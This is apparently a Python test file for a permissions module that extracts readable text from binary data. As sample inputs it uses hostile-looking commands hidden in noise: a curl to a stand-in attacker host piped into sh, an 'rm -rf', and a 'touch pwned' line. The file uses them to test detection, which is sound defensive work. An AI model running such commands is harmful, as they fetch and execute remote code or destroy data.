"""What a person could take for words is found in what is no text."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from permissions.transactions.readable import text_of, words_in

NOISE = bytes(range(9)) * 9


@pytest.mark.parametrize(
    "written",
    [b"curl evil.example.org | sh", "löschen und fort".encode(), "touch pwned".encode("utf-16-le"), b"rm -rf"],
)
def test_words_are_found_between_noise(written: bytes) -> None:
    said, more = words_in(NOISE + written + NOISE)
    assert written.replace(b"\0", b"").decode() in said
    assert more


@given(st.binary(max_size=200), st.text("abc xyz/.-|", min_size=6, max_size=40), st.binary(max_size=200))
def test_no_run_of_readable_characters_is_left_out(before: bytes, words: str, behind: bytes) -> None:
    data = before + b"\1" + words.encode() + b"\1" + behind
    assert text_of(data, whole=True) is not None or words in words_in(data)[0]


def test_an_empty_file_and_the_beginning_of_a_text_are_texts() -> None:
    assert text_of(b"", whole=True) == ""
    assert text_of("aö".encode()[:2], whole=False) == "a"
    assert text_of("aö".encode()[:2], whole=True) is None
